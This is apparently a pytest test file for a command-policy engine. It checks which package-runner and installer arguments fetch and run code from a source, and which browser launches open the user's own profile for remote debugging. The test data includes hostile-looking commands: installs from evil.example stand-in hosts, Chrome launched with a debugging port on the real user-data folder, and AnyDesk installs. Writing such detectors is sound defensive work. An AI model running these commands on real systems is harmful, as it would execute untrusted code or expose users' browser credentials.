"""`effects_packages` and `effects_browsers` branch by branch: which words name a source or a package (S-RULE-166),
and which profile a browser opens (S-RULE-167)."""

from __future__ import annotations

import pytest

from policy.rules.effects_browsers import BROWSER_PROGRAMS
from policy.rules.effects_packages import package_sources
from policy.rules.shell.ops import EffectKind, Operation
from tests._requirements import requirement


def _fetched(name: str, *words: str | None) -> list[str | None]:
    found = package_sources(name, words)
    assert all(e.kind is EffectKind.DOWNLOAD_EXECUTE for e in found)
    return [e.target for e in found]


@requirement("S-RULE-166")
@pytest.mark.parametrize(
    ("name", "words", "fetched"),
    [
        # A runner's package: the first plain word, or the value of `-p`/`--package` (either spelling).
        ("npx", ("-y",), []),
        ("npx", ("--package=evil/x", "cmd"), ["evil/x"]),
        ("npx", ("--package", "evil/x", "cmd"), ["evil/x"]),
        ("npx", ("-p", "evil/x", "cmd"), ["evil/x"]),
        ("npx", ("-c", "a/b", "cowsay"), []),  # `-c` takes a command line, not a package
        ("npx", ("cowsay", "evil/x"), []),  # the package's own argument
        ("npx", (None, "cowsay"), []),
        # An installer's every word, up to `--`.
        ("pip", ("install", "x", "--", "https://evil.example/x"), []),
        ("pip", ("install", "--index-url=https://evil.example/s", "x"), ["https://evil.example/s"]),
        ("pip", ("install", "https://pypi.org/x.whl", "file:///C:/w/x.whl", "file://localhost/C:/x.whl"), []),
        ("pip", ("install", "file://host/share/x.whl"), ["file://host/share/x.whl"]),
        ("pip", ("install", "git+https://github.com/e/x@v1"), ["git+https://github.com/e/x@v1"]),
        ("pip", ("install", "-i", "HTTPS://PYPI.ORG/simple", "git+https://pypi.org/x", "x"), []),  # its own registry
        ("pip", ("install", "https://[::1/x"), ["https://[::1/x"]),  # an address Python cannot split
        ("pip", ("install", "git@github.com:e/x.git"), ["git@github.com:e/x.git"]),
        ("uv", ("tool", "run", "--from", "git+https://github.com/e/x", "x", "https://a.example"),
         ["git+https://github.com/e/x"]),
        ("dotnet", ("app.dll", "https://evil.example"), []),
        ("dotnet", ("tool", "install", "x", "--add-source", "https://evil.example/"), ["https://evil.example/"]),
        ("deno", ("https://evil.example/x.ts", "https://a.example"), ["https://evil.example/x.ts"]),
        ("deno", ("run", "x.ts", "https://a.example"), []),
        ("winget", ("install", "-m", "C:\\t\\m.yaml"), ["C:\\t\\m.yaml"]),
        ("notepad", ("https://evil.example/x",), []),
        ("pip", ("install", None, "https://evil.example/x"), ["https://evil.example/x"]),  # past a word not known
    ],
)  # fmt: skip
def test_which_words_name_a_source(name: str, words: tuple[str | None, ...], fetched: list[str]) -> None:
    """S-RULE-166: the address (or GitHub shorthand) each download-execute names."""
    assert _fetched(name, *words) == fetched


@requirement("S-RULE-166", "S-RULE-169")
def test_an_app_installer_uri_names_its_source_and_winget_add_is_install() -> None:
    """S-RULE-166: the target is the address after `source=`; S-RULE-169: `winget add` is `winget install`."""
    from policy.rules.effects_packages import appinstaller_uri
    from policy.rules.effects_remote_control import remote_control_tool

    found = appinstaller_uri("ms-appinstaller:?source=https://e.example/x.appinstaller&a=1")
    assert [(e.kind, e.target) for e in found] == [(EffectKind.DOWNLOAD_EXECUTE, "https://e.example/x.appinstaller")]
    marked = [dict(e.extra).get("remote-control") for e in package_sources("winget", ("add", "AnyDesk.AnyDesk"))]
    assert marked == ["anydesk"]
    assert remote_control_tool("C:/Program Files/AnyDesk/AnyDesk.exe") == "anydesk"


def _opened(name: str, *args: str) -> list[str | None]:
    handler = BROWSER_PROGRAMS[name]
    found = handler(Operation(shell="program", name=name, args=args))
    assert all(e.kind is EffectKind.CREDENTIAL_ACCESS for e in found)
    return [e.target for e in found]


_CHROME_DATA = "C:\\Users\\me\\AppData\\Local\\Google\\Chrome\\User Data"


@requirement("S-RULE-167")
@pytest.mark.parametrize(
    ("name", "args", "opened"),
    [
        ("chrome", ("--remote-debugging-port=9222",), ["chrome"]),
        ("chrome", ("--remote-debugging-port=9222", f"--user-data-dir={_CHROME_DATA}"), [_CHROME_DATA]),
        ("chrome", ("--remote-debugging-port=9222", f"--user-data-dir='{_CHROME_DATA}'"), [f"'{_CHROME_DATA}'"]),
        ("chrome", ("--remote-debugging-port=9222", "--user-data-dir=C:\\Temp\\p"), []),
        ("chrome", ("--user-data-dir", _CHROME_DATA), []),  # no remote control: an ordinary start
        ("opera", ("--remote-debugging-port=1", "--user-data-dir=~\\AppData\\Roaming\\Opera Software\\Opera Stable"),
         ["~\\AppData\\Roaming\\Opera Software\\Opera Stable"]),
        ("firefox", ("--marionette", "-profile", "C:\\Temp\\p"), []),
        ("firefox", ("--remote-debugging-port",), ["firefox"]),
        ("firefox", ("--remote-debugging-pipe",), []),  # Chromium's switch: Firefox has none of that name
    ],
)  # fmt: skip
def test_which_profile_a_browser_opens_for_remote_control(name: str, args: tuple[str, ...], opened: list[str]) -> None:
    """S-RULE-167: the user's own profile (named, or the default) is the target; a profile of its own is nothing."""
    assert _opened(name, *args) == opened
